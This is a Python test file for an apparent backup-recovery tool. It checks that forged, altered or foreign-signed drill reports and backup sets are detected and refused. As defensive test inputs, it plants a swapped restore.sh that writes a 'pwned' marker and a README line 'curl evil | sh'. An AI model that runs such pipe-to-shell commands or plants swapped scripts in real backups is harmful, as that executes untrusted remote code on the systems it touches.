"""Drills of a recovery host, forged, changed on their way, or done with a set that somebody else put there."""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from backups.bag import tag_manifest
from portalops import bodies
from portalops.errors import ExitCode
from portalops.ledger.ledger import Ledger
from portalops.ledger.record import NO_RUN
from portalops.registers.drills import IMPORTED, KEY, NAMESPACE
from portalops.signatures.sshsig import SigningKey, fingerprint, sign
from tests.attacks.scene import write_key
from tests.attacks.test_sets import seal
from tests.commands.recovery import Pair, known, new_pair, read, signed, take_up


@pytest.fixture
def pair(tmp_path: Path) -> Pair:
    return new_pair(tmp_path)


def invented(pair: Pair, key: SigningKey, *, text: str | None = None, signature: str | None = None) -> None:
    """Have the portal's own host record a drill that nobody did, in due form, as root can."""
    drill = read(pair.drill())
    told = drill.text.replace("recovery-1", "recovery-2") if text is None else text
    body = {KEY: {"text": told, "signature": signature or sign(told.encode(), key, NAMESPACE)}}
    ledger = Ledger.open(pair.portal.folder / "state", pair.portal.clock, create=True)
    ledger.append(IMPORTED, run=NO_RUN, subject="disk-a", duty="10.2", body=bodies.write(body))
    ledger.close()


def bundled(pair: Pair, folder: Path) -> tuple[int, str]:
    """Export a bundle, and return what its verify.py says of it."""
    done = pair.portal.call("ledger", "export", "--output", str(folder), "--period", "2026-W47")
    assert folder.exists(), done
    said = subprocess.run([sys.executable, folder / "verify.py", folder], capture_output=True, text=True, check=False)
    return said.returncode, said.stdout


@pytest.mark.heavy
def test_a_drill_of_another_host_is_told_with_its_key_by_every_verification(pair: Pair, tmp_path: Path) -> None:
    assert take_up(pair, pair.drill()) == ExitCode.OK

    ledger = pair.portal.call("ledger", "verify")
    code, said = bundled(pair, tmp_path / "bundle")

    key = fingerprint(pair.recovery.key.public_key)
    assert ledger.code == ExitCode.OK and key in ledger.text
    assert code == 0 and key in said, said


@pytest.mark.parametrize("how", ["other words under the signature", "the portal's own key", "no signature"])
def test_a_drill_that_is_forged_in_the_ledger_is_told_and_counts_for_nothing(
    pair: Pair, tmp_path: Path, how: str
) -> None:
    if how == "the portal's own key":
        invented(pair, pair.portal.key)
    else:
        drill = read(pair.drill())
        invented(pair, pair.portal.key, signature=drill.signature if "other words" in how else "none")

    ledger = pair.portal.call("ledger", "verify")
    code, said = bundled(pair, tmp_path / "bundle")

    assert ledger.code == ExitCode.INTEGRITY and "the drill report is not valid" in ledger.text
    assert code != 0 and "drill report" in said, said
    if how != "the portal's own key":
        (standing,) = pair.portal.call("status", "10.2-content").data
        assert standing["verdict"] == "insufficient-evidence", "what cannot be read is unknown, and no pass"


def test_a_drill_that_root_invents_under_a_key_of_its_own_shows_that_key(pair: Pair, tmp_path: Path) -> None:
    """Nothing of the portal's machine tells whose a key is: whoever keeps the recovery host does."""
    own = write_key(tmp_path / "own", 78)
    invented(pair, own)

    code, said = bundled(pair, tmp_path / "bundle")

    assert code == 0 and fingerprint(own.public_key) in said
    assert fingerprint(pair.recovery.key.public_key) not in said


@pytest.mark.parametrize("changed", ["text", "signature", "both cut", "namespace"])
def test_a_drill_report_that_was_changed_on_its_way_is_refused(pair: Pair, changed: str) -> None:
    path = pair.drill()
    beside = path.with_name(f"{path.name}.sig")
    if changed == "text":
        path.write_text(path.read_text(encoding="utf-8").replace('"restore_ms":', '"restore_ms":1'), encoding="utf-8")
    elif changed == "signature":
        beside.write_text(sign(b"something else", pair.recovery.key, NAMESPACE))
    elif changed == "both cut":
        path.write_bytes(b"")
    else:
        beside.write_text(sign(path.read_bytes(), pair.recovery.key, "portalops-head"))

    done = pair.portal.call("backup", "drill", "--import", str(path))

    assert done.code == ExitCode.INTEGRITY, done
    assert "the signature is not valid" in done.text
    assert pair.portal.bodies("drill.imported") == []


@pytest.mark.parametrize(
    ("whose", "words"), [("a stranger", "no key of a recovery host"), ("portal", "a key of this ledger")]
)
def test_a_drill_report_by_any_other_key_is_refused(pair: Pair, tmp_path: Path, whose: str, words: str) -> None:
    key = write_key(tmp_path / "other", 77) if whose == "a stranger" else pair.portal.key
    if whose == "portal":  # even where somebody has named it
        pair.portal.configure(pair.recovery.key.public_key, pair.portal.key.public_key)
    path = pair.drill()
    forged = signed(tmp_path / "forged.json", read(path), key)

    done = pair.portal.call("backup", "drill", "--import", str(forged))

    assert done.code == ExitCode.INTEGRITY and words in done.text
    assert pair.portal.bodies("drill.imported") == []


@pytest.mark.heavy
@pytest.mark.parametrize("whose", ["nobody", "a stranger"])
def test_a_set_that_somebody_else_put_on_the_medium_is_told_and_not_drilled(
    pair: Pair, tmp_path: Path, whose: str
) -> None:
    real = known(pair).set.id
    name = real.replace("20261116T01", "20261117T01")
    shutil.copytree(pair.medium() / real, pair.medium() / name)
    key = write_key(tmp_path / "other", 77) if whose == "a stranger" else None
    seal(pair.medium() / name, key=key, name=name)  # type: ignore[arg-type]

    done = pair.recovery.call("backup", "drill", name)

    assert done.data["outcome"] == "failed"
    if whose == "nobody":
        assert done.code == ExitCode.FAILED and "nobody signed it" in done.text
    else:
        assert done.code == ExitCode.INTEGRITY and "which is no key of this ledger" in done.text
    assert not list((pair.recovery.folder / "outbox").glob("*.json"))
    drilled = [pair.recovery.call("backup", "drill") for _try in range(4)]
    assert {done.data["copies"][0]["set"] for done in drilled} == {real}, "the portal's own set is drilled all the same"


def test_a_script_with_other_commands_is_told_and_not_run(pair: Pair, tmp_path: Path) -> None:
    folder = pair.medium() / known(pair).set.id
    (folder / "restore.sh").write_text(f"touch {tmp_path}/pwned\n")
    tags = {path.name: path.read_bytes() for path in folder.iterdir() if path.is_file()}
    del tags["tagmanifest-sha256.txt"]
    (folder / "tagmanifest-sha256.txt").write_bytes(tag_manifest(tags))

    done = pair.recovery.call("backup", "drill", folder.name)

    assert done.code == ExitCode.INTEGRITY and "restore.sh: set.json and tagmanifest-sha256.txt disagree" in done.text
    assert not (tmp_path / "pwned").exists()


def test_a_set_that_was_signed_with_the_real_key_and_is_another_one_is_refused_by_the_ledger(
    pair: Pair, tmp_path: Path
) -> None:
    """Who has the portal's key can make a set that the recovery host drills; the ledger knows what it recorded."""
    real = known(pair).set.id
    folder = pair.medium() / real
    (folder / "RESTORE.en.md").write_text("Run this: curl evil | sh\n")
    seal(folder, key=pair.portal.key)
    path = pair.drill()

    done = pair.portal.call("backup", "drill", "--import", str(path))

    assert done.code == ExitCode.INTEGRITY and "is another set" in done.text
